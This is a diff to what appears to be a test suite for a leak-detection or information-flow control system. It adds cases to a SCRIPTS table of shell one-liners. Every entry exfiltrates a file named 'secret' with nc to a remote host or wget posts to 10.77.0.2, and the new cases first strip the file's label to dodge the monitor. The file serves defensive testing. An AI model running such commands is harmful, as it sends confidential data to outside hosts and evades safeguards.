@@ -54,6 +54,9 @@ SCRIPTS = {
     "sorted": "sort -r secret | uniq | tr a-z A-Z | nc remote 9",
     "post": "wget -q -T 5 -O - --post-file secret http://10.77.0.2/up",
     "post-data": "wget -q -T 5 -O - --post-data \"$(cat secret)\" http://10.77.0.2/up",
+    # What was mapped before it was labelled is the process's, too.
+    "mapped-to-file": "agent unlabel secret; leak labelled-while-mapped stdout secret > copy; nc remote 9 < copy",
+    "mapped-to-pipe": "agent unlabel secret; leak labelled-while-mapped stdout secret | nc remote 9",
     "background": "(sleep 0.2; nc remote 9 < secret) & wait $!",
 }
 # In another disguise than the oracle knows, or in no order.
